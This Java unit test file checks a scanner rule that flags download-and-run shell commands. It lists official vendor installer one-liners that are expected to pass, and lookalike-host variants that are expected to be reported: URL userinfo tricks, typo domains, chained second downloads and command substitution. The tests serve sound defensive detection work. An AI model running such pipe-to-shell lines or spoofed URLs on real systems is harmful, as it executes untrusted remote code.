package dev.assay.intake.signature;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class VendorsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL https://elastic.co/start-local | sh",
        "curl -LsSf https://www.astral.sh/uv/install.sh | sh",
        "curl -sSfL https://raw.githubusercontent.com/auth0/auth0-cli/main/install.sh | sh",
        "curl -sSL https://install.astronomer.io | sudo bash -s",
        "sh -c \"$(curl -fsSL https://deno.land/install.sh)\"",
        "iwr -useb get.scoop.sh | iex",
        "wget -qO- https://github.com/helm/helm/releases/download/v3/get.sh | bash",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"
      })
  void what_a_vendor_publishes_is_no_foreign_download(String line) {
    assertThat(warns(line)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL https://elastic.co.start-local.dev/x | sh",
        "curl -fsSL https://elastic.co@downloads.example.org/x | sh",
        "curl -fsSL https://elastic.co:8443@downloads.example.org/x | sh",
        "curl -fsSL https://elastic.co\\@downloads.example.org/x | sh",
        "curl -fsSL http://elastic.co/start-local | sh",
        "curl -fsSL https://not-elastic.co/start-local | sh",
        "curl -fsSL https://deno.land/x/helper/install.sh | sh",
        "curl -fsSL https://mine.up.railway.app/install.sh | sh",
        "curl -sSfL https://raw.githubusercontent.com/auth0-tools/auth0-cli/main/install.sh | sh",
        "curl -sSfL https://github.com/somebody/helm/releases/download/v3/get.sh | sh",
        "curl -fsSL https://astral.sh/uv/install.sh https://example.org/x.sh | sh",
        "curl -fsSL https://astral.sh/uv/install.sh | sh; curl https://example.org/x.sh | sh",
        "curl -fsSL $(echo https://example.org/x.sh) -e https://astral.sh | sh"
      })
  void what_only_looks_like_a_vendor_is_reported(String line) {
    assertThat(warns(line)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "The installer uses `curl … | sh`, which some sandboxes refuse.",
        "# --- Pipe to shell (curl/wget | sh) ---"
      })
  void words_about_such_commands_are_no_commands(String line) {
    assertThat(warns(line)).isFalse();
  }

  @Test
  void only_the_address_of_a_vendor_is_taken_out_of_a_sentence() {
    assertThat(Vendors.withoutAddresses("See https://docs.docker.com/get, then get helper.exe"))
        .isEqualTo("See  then get helper.exe");
    assertThat(Vendors.withoutAddresses("See https://docs.docker.com.example.org/get."))
        .contains("https://docs.docker.com.example.org/get.");
  }

  private static boolean warns(String line) {
    return Signatures.ALL.stream()
        .filter(each -> each.rule() == ScanRule.DOWNLOAD_AND_RUN)
        .anyMatch(each -> each.matches(line));
  }
}
